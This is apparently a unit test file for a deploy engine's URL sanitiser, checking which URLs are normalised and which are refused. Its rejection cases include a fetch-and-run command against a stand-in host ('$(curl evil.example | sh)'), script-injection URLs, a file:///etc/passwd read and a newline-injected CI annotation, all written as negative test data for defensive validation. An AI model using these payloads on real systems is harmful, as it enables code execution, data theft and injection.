import { publishableUrl, publishableUrls } from '../../../../src/deploy/engine/tasks/publishable-urls.js';

describe('publishableUrl', () => {
  it.each([
    ['https://t1-80.apps.example', 'https://t1-80.apps.example'],
    ['https://t1-80.apps.example/', 'https://t1-80.apps.example/'],
    ['https://T1.Example:443?x=1', 'https://t1.example/?x=1'],
    ['http://10.0.0.5:8080/v1', 'http://10.0.0.5:8080/v1'],
    ['HTTPS://Host.Example/a b"c`d', 'https://host.example/a%20b%22c%60d'],
    ['https://x.example/\n::error::y', 'https://x.example/::error::y']
  ])('publishes %j as %j', (text, url) => {
    expect(publishableUrl(text)).toBe(url);
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    'ftp://x.example/',
    '/relative/path',
    'x.example',
    '$(curl evil.example | sh)',
    ''
  ])('refuses %j', (text) => {
    expect(publishableUrl(text)).toBeUndefined();
  });

  it('keeps the publishable ones in order and hands each dropped one over', () => {
    const dropped: string[] = [];
    expect(
      publishableUrls(['https://a.example', null, 'javascript:x', 'https://b.example/'], (u) =>
        dropped.push(u)
      )
    ).toEqual(['https://a.example', 'https://b.example/']);
    expect(dropped).toEqual(['javascript:x']);
  });
});
